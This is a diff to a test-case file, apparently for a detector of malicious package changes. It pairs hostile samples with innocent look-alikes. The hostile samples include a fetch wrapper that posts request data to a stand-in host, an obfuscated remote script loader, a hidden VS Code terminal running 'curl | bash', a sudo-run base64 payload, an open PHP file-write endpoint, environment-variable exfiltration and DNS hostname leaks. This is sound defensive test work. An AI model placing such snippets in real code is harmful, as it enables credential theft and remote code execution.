@@ -380,3 +380,37 @@ row(37, False, "a program that was there is started", {"index.js": MAIN + STARTS
 UNSEEN = "".join(chr(0xFE00 + b % 16) + chr(0xE0100 + b // 16) for b in b"console.log('what nobody sees in an editor at all, ever')" * 3)
 fires(13, "a program in characters that are not shown", "exports.note = [...`%s`].length;\n" % UNSEEN)
 innocent(13, "signs that pick how an emoji looks", "exports.signs = ['\u2764\ufe0f', '\u2600\ufe0f', '\u2708\ufe0f'];\n")
+
+# ---- what is called where it stands, in pieces, or only for its effect ------------------------------
+
+PAGE_OWN = "(function (w) {\n  function open() { return w.document.title; }\n%s  w.Chat = { open: open };\n})(window);\n"
+WRAPS = "  var real = w.fetch;\n  w.fetch = function (url, options) { real('https://in.widget.example/c', { method: 'POST', body: options.body }); return real.apply(w, arguments); };\n"
+row(23, True, "a function of the window that the text was handed is replaced", {"lib/chat.js": PAGE_OWN % WRAPS}, old={"lib/chat.js": PAGE_OWN % ""})
+row(23, False, "a function of the window that was replaced by any name before", {"lib/chat.js": PAGE_OWN % WRAPS.replace("https://in.widget.example/c", "/c")}, old={"lib/chat.js": PAGE_OWN % "", "lib/watch.js": "self.fetch = wrap(self.fetch);\n"})
+row(23, False, "a member of the name of a function is set on something else", {"lib/chat.js": PAGE_OWN % "  var client = {};\n  client.fetch = function (url) { return w.fetch(url); };\n"}, old={"lib/chat.js": PAGE_OWN % ""})
+SHIFTED = ", ".join(str(ord(c) - 3) for c in "https://in.widget.example/l.js")
+row(42, True, "an address that a function is handed as a table", {"lib/chat.js": PAGE_OWN % ("  (function (k) { var s = document.createElement('script'); s.src = k.map(function (c) { return String.fromCharCode(c + 3); }).join(''); document.head.appendChild(s); })([%s]);\n" % SHIFTED)}, old={"lib/chat.js": PAGE_OWN % ""}, least="tampered")
+innocent(42, "a table that a function is handed and draws", "exports.shape = (function (k) { return k.map(function (c) { return c + 3; }).join(' '); })([1, 2, 3, 5, 8]);\n")
+fires(54, "a function is named in pieces", "exports.run = (text) => globalThis['ev' + 'al'](text);\n", least="review")
+innocent(54, "a property is named in pieces", "exports.pick = (o, side) => o['margin' + side](['in', 'out'].join('-'));\n")
+row(58, True, "a data file is compiled when the package is installed", {"DEBIAN/postinst": "#!/bin/sh\nset -e\ngcc -xc /usr/share/sample/readme.dat -o /usr/lib/sample/helper\n", "usr/share/sample/readme.dat": "int main(void) { return 0; }\n"}, old={"DEBIAN/postinst": "#!/bin/sh\nset -e\n"}, least="review")
+row(58, False, "a compiler is asked what it can do", {"scripts/probe.sh": "#!/bin/sh\ncc -x c /dev/null -c -o /dev/null\necho 'int x;' | gcc -xc - -c -o /dev/null\ngcc -x c probe.c -o probe\n"}, old={"scripts/probe.sh": "#!/bin/sh\n"})
+COLOUR = {"dependencies": {"tiny-colour-helper": "^1.0.0"}}
+row(25, True, "a new dependency is loaded and not used", {"index.js": "require('tiny-colour-helper');\n" + MAIN}, new_package=COLOUR, least="review")
+row(25, False, "a new dependency is loaded and used", {"index.js": MAIN + "exports.paint = require('tiny-colour-helper').paint;\n"}, new_package=COLOUR)
+row(25, False, "a new dependency that everybody knows is loaded and not used", {"index.js": "require('core-js');\n" + MAIN}, new_package={"dependencies": {"core-js": "^3.0.0"}})
+row(53, True, "a new dependency one slip away from a name that everybody knows", {"index.js": MAIN + "exports.lib = require('lodahs');\n"}, new_package={"dependencies": {"lodahs": "^4.17.21"}}, least="review")
+row(53, False, "a new dependency with a name of its own", {"index.js": MAIN + "exports.lib = require('paint-mixer');\n"}, new_package={"dependencies": {"paint-mixer": "^4.17.21"}})
+EDITOR = "const vscode = require('vscode');\nexports.activate = function (context) {\n%s};\n"
+row(1, True, "an extension types into a terminal that nobody sees", {"lib/extension.js": EDITOR % "  const t = vscode.window.createTerminal({ name: 's', hideFromUser: true });\n  t.sendText('curl -sL https://in.widget.example/1.sh | bash');\n"}, old={"lib/extension.js": EDITOR % ""}, least="tampered")
+row(1, False, "an extension types the user's task into a terminal", {"lib/extension.js": EDITOR % "  const t = vscode.window.createTerminal('tests');\n  t.sendText('npm test');\n  t.show();\n"}, old={"lib/extension.js": EDITOR % ""})
+fires(10, "a decoded text is the program of an interpreter", "require('child_process').execFileSync('sudo', ['python3', '-c', Buffer.from('%s', 'base64').toString()]);\n" % encoded("import os\nprint(os.listdir('/proc'))\n"), least="review")
+innocent(10, "an interpreter runs a plain line", "exports.version = () => require('child_process').execFileSync('python3', ['-c', 'import sys; print(sys.version)']);\n")
+PUTS = "<?php\nadd_action( 'init', 'sample' );\n%s"
+row(56, True, "what a request sends is stored under the name that it says", {"sample.php": PUTS % "add_action( 'wp_ajax_nopriv_put', function () {\n\tfile_put_contents( ABSPATH . $_POST['name'], base64_decode( $_POST['data'] ) );\n} );\n"}, old={"sample.php": PUTS % ""}, least="review")
+row(56, False, "what a form says is stored under a fixed name", {"sample.php": PUTS % "add_action( 'admin_post_save', function () {\n\tfile_put_contents( __DIR__ . '/notes.txt', $_POST['note'] );\n} );\n"}, old={"sample.php": PUTS % ""})
+EMITS = "const https = require('https');\nfunction emit(name, data) {\n  const r = https.request('https://in.tool.example/v2', { method: 'POST' });\n  r.end(JSON.stringify({ name, data }));\n}\nfunction started(version) {\n  emit('started', { version%s });\n}\nmodule.exports = { emit, started };\n"
+row(3, True, "an old function is handed the environment", {"lib/report.js": EMITS % ", env: process.env"}, old={"lib/report.js": EMITS % ""}, least="review")
+row(3, False, "an old function is handed the version of the runtime", {"lib/report.js": EMITS % ", node: process.version"}, old={"lib/report.js": EMITS % ""})
+fires(50, "facts about the host are asked for as a name through a resolver", "const { Resolver } = require('dns').promises;\nnew Resolver().resolveTxt(require('os').hostname() + '.in.widget.example').catch(() => null);\n")
+innocent(50, "a resolver is asked for a name", "exports.ask = (name) => new (require('dns').promises.Resolver)().resolveTxt(name);\n")
